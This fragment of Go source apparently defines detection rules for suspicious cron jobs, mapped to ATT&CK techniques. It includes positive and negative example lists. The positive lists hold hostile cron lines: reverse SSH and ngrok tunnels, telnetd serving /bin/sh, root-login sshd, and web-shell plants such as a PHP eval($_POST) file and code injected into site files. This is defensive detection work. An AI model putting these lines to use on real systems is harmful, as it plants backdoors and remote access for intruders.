		True:  []string{"@reboot ssh -fN -R 2222:localhost:22 u@example.org", "@reboot /opt/ngrok tcp 22", "@reboot /opt/x client 203.0.113.4:8080 R:socks", "@reboot cloudflared tunnel --url ssh://localhost:22", "@reboot sshd -p 2222 -o PermitRootLogin=yes", "@reboot telnetd -l /bin/sh", "@reboot socat TCP-LISTEN:445,fork TCP:203.0.113.5:445", "@reboot plink -R 3389:localhost:22 203.0.113.5", "@reboot code tunnel --name x", "@daily iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 203.0.113.5:80", "@reboot ssh -N -D 0.0.0.0:1080 me@gate", "@daily GS_ARGS='-s x -liqD' /usr/bin/x"},
		False: []string{"@reboot ssh -fN -L 5432:localhost:5432 u@example.org", "@daily ssh u@example.org uptime", "@reboot /usr/sbin/sshd", "@daily /usr/sbin/sshd -t", "@reboot cloudflared tunnel run web", "@reboot socat -u FILE:/dev/ttyUSB0 TCP:localhost:9", "@daily iptables -t nat -A PREROUTING -p tcp --dport 80 -j DNAT --to-destination 10.0.0.5:80", "@reboot ssh -N -D 127.0.0.1:1080 me@gate"}},
	{ID: "unlogged", Title: "the start of the job is kept out of the log", Severity: Low, Booster: true, Attack: []string{"T1070", "T1562"}},
	{ID: "unpackaged-program", Title: "a program that no package brought, in an odd place", Severity: Medium, Attack: []string{"T1036.005"}},
	{ID: "unreadable", Title: "longer or deeper than a person writes", Severity: Medium, Attack: []string{"T1027"}},
	{ID: "web-shell", Title: "plants a script that a web server runs for its visitors", Severity: High, Attack: []string{"T1505.003"},
		True:  []string{"@daily echo '<?php eval($_POST[1]);' > /srv/site/x.php", "@daily echo PD9waHA= | base64 -d > /var/www/html/i.php", "@daily cp /tmp/.x.php /var/www/html/wp-includes/load.php", "@daily wget -qO /home/u/public_html/x.php http://example.org/x.txt", "@daily php -r 'file_put_contents(\"/srv/s/x.php\",base64_decode(\"PD9waHA=\"));'", "@daily find /var/www -name '*.php' -exec sed -i '1s/^/<?php include(\"x\");?>/' {} +", "@daily echo auto_prepend_file=/srv/p > /srv/site/.user.ini", "@daily curl -s http://example.org/x.js >> /var/www/js/app.js"},
		False: []string{"@daily cp /srv/release/index.php /var/www/html/index.php", "@daily wget -qO /dev/null http://example.org/cron.php", "@daily php /var/www/html/cron.php > /var/www/html/log.txt", "@daily wget -qO /srv/tools/setup.php https://example.org/setup", "@daily echo '<?php return 1;' > /srv/site/built.php", "@daily curl -s http://example.org/x.js > /var/www/js/app.js", "@daily cp ~/release/.htaccess ~/public_html/.htaccess"}},
	{ID: "writable-target", Title: "others may change what it runs", Severity: High, Attack: []string{"T1574.007", "T1574.009"}},
}
